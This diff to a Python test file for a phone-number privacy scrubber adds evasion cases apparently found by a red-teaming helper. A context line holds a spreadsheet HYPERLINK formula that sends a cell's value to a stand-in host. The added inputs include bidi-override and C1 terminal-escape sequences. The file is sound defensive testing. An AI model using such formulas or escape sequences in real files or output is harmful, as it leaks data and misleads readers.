@@ -39,6 +39,23 @@ MASKED = [
         f'=HYPERLINK("http://x/?"&B7,"核对 {MASK}")',
     ),
     ("负责人张三 13812345678、李四 13912345678", f"负责人张三 {MASK}、李四 {MASK}"),
+    # helper-b's attack (seventh session): forms that went out unmasked
+    ("008613812345678", MASK),
+    ("0086 13812345678", MASK),
+    ("+86 21 5888 1234", MASK),
+    ("摘要 +86-21-5888-1234", f"摘要 {MASK}"),
+    ("0086 571 8765 4321", MASK),
+    ("138 - 1234 - 5678", MASK),
+    ("138/1234/5678", MASK),
+    ("138·1234·5678", MASK),
+    ("138\u200b1234\u200b5678", MASK),  # zero-width spaces, as pasted from a web page
+    ("1381\u200b2345678", MASK),
+    ("+银山议事会\u202e138\u200b1234\u200b5678", f"+银山议事会{MASK}"),
+    # invisible characters go, even where there is no number: a bidi override reorders a line
+    ("银山\u202e议事会", "银山议事会"),
+    ("\u202e张三", "张三"),
+    ("PX-2023-007\u202e\u2066000,02", "PX-2023-007000,02"),
+    ("德州\x9b2J读书会\x9d8;;http:e\x9c链\x7f", "德州2J读书会8;;http:e链"),  # C1 controls, DEL
 ]
 
 KEPT = [
@@ -62,6 +79,10 @@ KEPT = [
     "第 1 至 4 季度",
     "v1.2.3",
     "@张三",
+    "2023/10/12",
+    "2023-10-12 - 2023-11-01",
+    "22000/3",
+    "86-21-58881234",  # no + or 00: not taken for a country code
 ]
 
 
@@ -104,3 +125,18 @@ def test_numbers_under_eleven_digits_are_never_searched_because_none_can_match()
     assert scrub_value(9_999_999_999) == 9_999_999_999
     assert scrub_value(13812345678) == MASK and scrub_value(6222021234567890123) == MASK
     assert scrub_value(-13812345678) == MASK and scrub_value(-13812345678.0) == MASK
+
+
+def test_file_names_in_gbk_become_readable_text():
+    """Linux hands a GBK file name to Python as lone surrogates, which no UTF-8 output can hold."""
+    import os
+
+    from selfgov_cli.privacy import readable
+
+    gbk = os.fsdecode("申报/".encode() + "德州读书会13812345678".encode("gbk") + b".xlsx")
+    assert gbk != "申报/德州读书会13812345678.xlsx"  # some of its bytes even pass for UTF-8
+    assert readable(gbk) == "申报/德州读书会13812345678.xlsx"
+    assert scrub(gbk) == f"申报/德州读书会{MASK}.xlsx"
+    assert readable(os.fsdecode(b"\xff\xfe.xlsx")) == "\ufffd\ufffd.xlsx"  # not GB18030 either
+    assert readable("x\ud800y") == "x\ufffdy"
+    assert readable("申报/德州.xlsx") == "申报/德州.xlsx"
